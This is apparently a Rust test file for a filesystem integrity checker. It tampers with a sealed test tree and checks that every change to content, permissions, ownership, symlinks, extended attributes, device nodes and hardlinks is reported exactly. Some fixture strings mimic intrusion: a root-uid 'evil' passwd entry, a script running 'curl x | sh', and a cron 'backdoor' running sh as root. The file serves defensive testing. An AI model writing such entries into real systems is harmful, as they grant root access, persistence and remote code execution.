//! Table-driven tamper tests: every change kind and attribute the drift report knows, each
//! made on a freshly sealed tree, must be reported exactly (and nothing else).
mod common;

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{lchown, symlink, PermissionsExt};
use std::path::Path;

use common::*;
use nix::sys::stat::SFlag;

type Tamper = fn(&Path);

fn p(root: &Path, rel: &str) -> std::path::PathBuf {
    root.join(rel)
}

fn chmod(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// (name, tamper, expected changes as (path, kind, attributes)).
type Expected = Vec<(&'static str, &'static str, Vec<&'static str>)>;

fn cases() -> Vec<(&'static str, Tamper, Expected)> {
    vec![
        ("untouched", |_| {}, vec![]),
        (
            "content, same size",
            |r| fs::write(p(r, "etc/passwd"), b"evil:x:0:0:root:/root:/bin/sh\n").unwrap(),
            vec![("/etc/passwd", "modified", vec!["content"])],
        ),
        (
            "content and size",
            |r| {
                fs::write(
                    p(r, "usr/bin/tool"),
                    b"#!/bin/sh\necho pwned; curl x | sh\n",
                )
                .unwrap()
            },
            vec![("/usr/bin/tool", "modified", vec!["content", "size"])],
        ),
        (
            "empty file gets content",
            |r| fs::write(p(r, "etc/empty"), b"x").unwrap(),
            vec![("/etc/empty", "modified", vec!["content", "size"])],
        ),
        (
            "mode",
            |r| chmod(&p(r, "etc/shadow"), 0o644),
            vec![("/etc/shadow", "modified", vec!["mode"])],
        ),
        (
            "setuid added",
            |r| chmod(&p(r, "usr/bin/tool"), 0o4755),
            vec![("/usr/bin/tool", "modified", vec!["mode"])],
        ),
        (
            "sticky removed",
            |r| chmod(&p(r, "tmp"), 0o777),
            vec![("/tmp", "modified", vec!["mode"])],
        ),
        (
            "uid",
            |r| lchown(p(r, "etc/passwd"), Some(1000), None).unwrap(),
            vec![("/etc/passwd", "modified", vec!["uid"])],
        ),
        (
            "gid",
            |r| lchown(p(r, "etc/shadow"), None, Some(0)).unwrap(),
            vec![("/etc/shadow", "modified", vec!["gid"])],
        ),
        (
            "symlink target",
            |r| {
                fs::remove_file(p(r, "usr/lib/tool-link")).unwrap();
                symlink("/tmp/evil", p(r, "usr/lib/tool-link")).unwrap();
            },
            vec![("/usr/lib/tool-link", "modified", vec!["target"])],
        ),
        (
            "symlink owner",
            |r| lchown(p(r, "usr/lib/tool-link"), Some(7), None).unwrap(),
            vec![("/usr/lib/tool-link", "modified", vec!["uid"])],
        ),
        (
            "xattr added",
            |r| set_xattr(&p(r, "etc/passwd"), "user.evil", b"1"),
            vec![("/etc/passwd", "modified", vec!["xattrs"])],
        ),
        (
            "security xattr changed",
            |r| set_xattr(&p(r, "etc/attr"), "security.pyre", b"other"),
            vec![("/etc/attr", "modified", vec!["xattrs"])],
        ),
        (
            "xattr removed",
            |r| remove_xattr(&p(r, "etc/attr"), "user.note"),
            vec![("/etc/attr", "modified", vec!["xattrs"])],
        ),
        (
            "xattr on a directory",
            |r| set_xattr(&p(r, "etc"), "trusted.overlay.opaque", b"y"),
            vec![("/etc", "modified", vec!["xattrs"])],
        ),
        (
            "device numbers",
            |r| {
                fs::remove_file(p(r, "dev/null")).unwrap();
                mknod(&p(r, "dev/null"), SFlag::S_IFCHR, 1, 5);
            },
            vec![("/dev/null", "modified", vec!["rdev"])],
        ),
        (
            "hardlink broken",
            |r| {
                fs::remove_file(p(r, "usr/bin/b")).unwrap();
                write(&p(r, "usr/bin/b"), b"linked twice\n", 0o755);
            },
            vec![
                ("/usr/bin/a", "modified", vec!["hardlink"]),
                ("/usr/bin/b", "modified", vec!["hardlink"]),
            ],
        ),
        (
            "hardlink made",
            |r| fs::hard_link(p(r, "etc/passwd"), p(r, "etc/passwd-")).unwrap(),
            vec![
                ("/etc/passwd", "modified", vec!["hardlink"]),
                ("/etc/passwd-", "added", vec![]),
            ],
        ),
        (
            "file added",
            |r| write(&p(r, "etc/cron.d/backdoor"), b"* * * * * root sh\n", 0o644),
            vec![
                ("/etc/cron.d", "added", vec![]),
                ("/etc/cron.d/backdoor", "added", vec![]),
            ],
        ),
        (
            "device added",
            |r| mknod(&p(r, "dev/mem"), SFlag::S_IFCHR, 1, 1),
            vec![("/dev/mem", "added", vec![])],
        ),
        (
            "file removed",
            |r| fs::remove_file(p(r, "etc/shadow")).unwrap(),
            vec![("/etc/shadow", "removed", vec![])],
        ),
        (
            "directory removed",
            |r| fs::remove_dir_all(p(r, "var/lib/app")).unwrap(),
            vec![
                ("/var/lib/app", "removed", vec![]),
                ("/var/lib/app/more", "removed", vec![]),
                ("/var/lib/app/state", "removed", vec![]),
            ],
        ),
        (
            "file becomes directory",
            |r| {
                fs::remove_file(p(r, "etc/passwd")).unwrap();
                fs::create_dir(p(r, "etc/passwd")).unwrap();
            },
            vec![("/etc/passwd", "type-changed", vec![])],
        ),
        (
            "file becomes symlink",
            |r| {
                fs::remove_file(p(r, "usr/bin/tool")).unwrap();
                symlink("/tmp/evil", p(r, "usr/bin/tool")).unwrap();
            },
            vec![("/usr/bin/tool", "type-changed", vec![])],
        ),
        (
            "fifo becomes file",
            |r| {
                fs::remove_file(p(r, "run/fifo")).unwrap();
                write(&p(r, "run/fifo"), b"", 0o600);
            },
            vec![("/run/fifo", "type-changed", vec![])],
        ),
        (
            "char device becomes block device",
            |r| {
                fs::remove_file(p(r, "dev/null")).unwrap();
                mknod(&p(r, "dev/null"), SFlag::S_IFBLK, 1, 3);
            },
            vec![("/dev/null", "type-changed", vec![])],
        ),
        (
            "directory becomes file",
            |r| {
                fs::remove_dir_all(p(r, "var/lib/app")).unwrap();
                write(&p(r, "var/lib/app"), b"", 0o644);
            },
            vec![
                ("/var/lib/app", "type-changed", vec![]),
                ("/var/lib/app/more", "removed", vec![]),
                ("/var/lib/app/state", "removed", vec![]),
            ],
        ),
        (
            "non-UTF-8 name renamed",
            |r| {
                let old = r.join(OsStr::from_bytes(b"var/caf\xe9"));
                fs::rename(old, r.join(OsStr::from_bytes(b"var/caf\xe8"))).unwrap();
            },
            vec![
                ("/var/caf\\xe8", "added", vec![]),
                ("/var/caf\\xe9", "removed", vec![]),
            ],
        ),
    ]
}

#[test]
fn every_tamper_is_reported_exactly() {
    for (name, tamper, want) in cases() {
        let t = base_tree();
        t.seal(&[]);
        tamper(&t.root);
        let report = t.verify();
        let got = summary(&report);
        let want: Vec<(String, String, Vec<String>)> = want
            .iter()
            .map(|(p, k, a)| {
                (
                    p.to_string(),
                    k.to_string(),
                    a.iter().map(|s| s.to_string()).collect(),
                )
            })
            .collect();
        assert_eq!(got, want, "case {name:?}");
        assert_eq!(report.is_clean(), want.is_empty(), "case {name:?}");
    }
}

#[test]
fn modified_values_carry_expected_and_actual() {
    let t = base_tree();
    t.seal(&[]);
    chmod(&t.path("etc/shadow"), 0o4777);
    set_xattr(&t.path("etc/attr"), "security.pyre", b"\xff");
    let v = serde_json::to_value(t.verify()).unwrap();
    let changes = v["changes"].as_array().unwrap();
    let find = |path: &str| changes.iter().find(|c| c["path"] == path).unwrap().clone();
    let mode = &find("/etc/shadow")["attributes"][0];
    assert_eq!(mode["attribute"], "mode");
    assert_eq!(mode["expected"], "0640");
    assert_eq!(mode["actual"], "4777");
    let x = &find("/etc/attr")["attributes"][0];
    assert_eq!(x["expected"]["security.pyre"], "000162696e617279");
    assert_eq!(x["actual"]["security.pyre"], "ff");
    assert!(
        x["expected"].get("user.note").is_none(),
        "only differing names: {x}"
    );
}
